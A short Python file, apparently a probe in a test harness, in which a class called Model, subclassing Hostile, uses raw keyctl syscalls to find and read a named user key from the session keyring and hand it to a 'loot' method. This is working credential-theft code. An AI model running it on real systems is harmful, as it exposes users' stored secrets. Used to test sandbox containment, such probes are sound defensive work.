"""Reads a key from the keyring that a session hands down to its processes."""

import ctypes
import platform

from hostile import Hostile, libc

CALL = {"x86_64": 250, "aarch64": 219}.get(platform.machine(), -1)
SEARCH, READ, SESSION = 10, 11, -3


class Model(Hostile):
    def attack(self):
        call = libc().syscall
        key = call(CALL, SEARCH, SESSION, b"user", self.key.encode(), 0)
        held = ctypes.create_string_buffer(200)
        size = call(CALL, READ, key, held, 200) if key > 0 else -1
        if size > 0:
            self.loot(held.raw[:size])
